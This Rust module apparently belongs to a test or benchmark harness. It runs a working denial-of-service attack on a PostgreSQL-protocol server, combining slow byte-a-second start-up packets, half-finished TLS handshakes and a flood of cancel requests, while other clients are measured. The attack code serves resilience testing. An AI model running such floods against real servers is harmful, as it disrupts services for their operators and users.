//! The attack: on a thread of its own, so that those who are measured do not wait for it here.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const SLOW: u64 = 1000;
const HANDSHAKES: u64 = 1000;
const CANCELS: u64 = 10_000;
/// Cancel requests under way at once.
const CANCELLING: u64 = 500;

const SSL_REQUEST: [u8; 8] = [0, 0, 0, 8, 0x04, 0xd2, 0x16, 0x2f];
/// The beginning of a handshake record that says it is 512 bytes long.
const HALF_HELLO: [u8; 11] = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];

#[derive(Default)]
struct Counts {
    slow: AtomicU64,
    handshakes: AtomicU64,
    cancels: AtomicU64,
    refused: AtomicU64,
}

/// An attack that is on.
pub(crate) struct Attack {
    over: Arc<AtomicBool>,
    counts: Arc<Counts>,
    thread: std::thread::JoinHandle<()>,
}

impl Attack {
    /// Begins.
    pub(crate) fn start(addr: SocketAddr) -> Attack {
        let (over, counts) = (
            Arc::new(AtomicBool::new(false)),
            Arc::new(Counts::default()),
        );
        let (ends, counted) = (Arc::clone(&over), Arc::clone(&counts));
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .expect("a runtime");
            runtime.block_on(all(addr, ends, counted));
        });
        Attack {
            over,
            counts,
            thread,
        }
    }

    /// Ends, and says what was done.
    pub(crate) fn stop(self) -> String {
        self.over.store(true, Ordering::Relaxed);
        drop(self.thread.join());
        let count = |count: &AtomicU64| count.load(Ordering::Relaxed);
        format!(
            "{} slow connections, {} half handshakes, {} cancel requests to their end, {} not connected",
            count(&self.counts.slow),
            count(&self.counts.handshakes),
            count(&self.counts.cancels),
            count(&self.counts.refused)
        )
    }
}

async fn all(addr: SocketAddr, over: Arc<AtomicBool>, counts: Arc<Counts>) {
    for _ in 0..SLOW {
        tokio::spawn(again(addr, Arc::clone(&counts), slow));
    }
    for _ in 0..HANDSHAKES {
        tokio::spawn(again(addr, Arc::clone(&counts), handshake));
    }
    for worker in 0..CANCELLING {
        let counts = Arc::clone(&counts);
        tokio::spawn(async move {
            for number in 0..CANCELS / CANCELLING {
                cancel(addr, &counts, worker * CANCELS + number).await;
            }
        });
    }
    while !over.load(Ordering::Relaxed) {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // The rest ends with the runtime.
}

/// A connection that comes back a second after it was ended.
async fn again<F>(addr: SocketAddr, counts: Arc<Counts>, one: fn(TcpStream, Arc<Counts>) -> F)
where
    F: Future<Output = std::io::Result<()>>,
{
    loop {
        match TcpStream::connect(addr).await {
            Ok(stream) => drop(one(stream, Arc::clone(&counts)).await),
            Err(_) => drop(counts.refused.fetch_add(1, Ordering::Relaxed)),
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

/// A start-up packet, one byte a second.
async fn slow(mut stream: TcpStream, counts: Arc<Counts>) -> std::io::Result<()> {
    counts.slow.fetch_add(1, Ordering::Relaxed);
    for byte in [0, 0, 0, 200, 0, 3, 0, 0].into_iter().chain([b'u'; 190]) {
        stream.write_all(&[byte]).await?;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// Asks for encryption, begins, and stops.
async fn handshake(mut stream: TcpStream, counts: Arc<Counts>) -> std::io::Result<()> {
    counts.handshakes.fetch_add(1, Ordering::Relaxed);
    stream.write_all(&SSL_REQUEST).await?;
    if stream.read_u8().await? != b'S' {
        return Ok(());
    }
    stream.write_all(&HALF_HELLO).await?;
    // Until it is ended.
    stream.read_u8().await?;
    Ok(())
}

/// Any key, and the wait for the end that clients make.
async fn cancel(addr: SocketAddr, counts: &Counts, seed: u64) {
    let key = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15).to_be_bytes();
    let packet = [&[0, 0, 0, 16, 0x04, 0xd2, 0x16, 0x2e], &key[..]].concat();
    let Ok(mut stream) = TcpStream::connect(addr).await else {
        counts.refused.fetch_add(1, Ordering::Relaxed);
        return;
    };
    if stream.write_all(&packet).await.is_ok() && matches!(stream.read(&mut [0; 9]).await, Ok(0)) {
        counts.cancels.fetch_add(1, Ordering::Relaxed);
    }
}
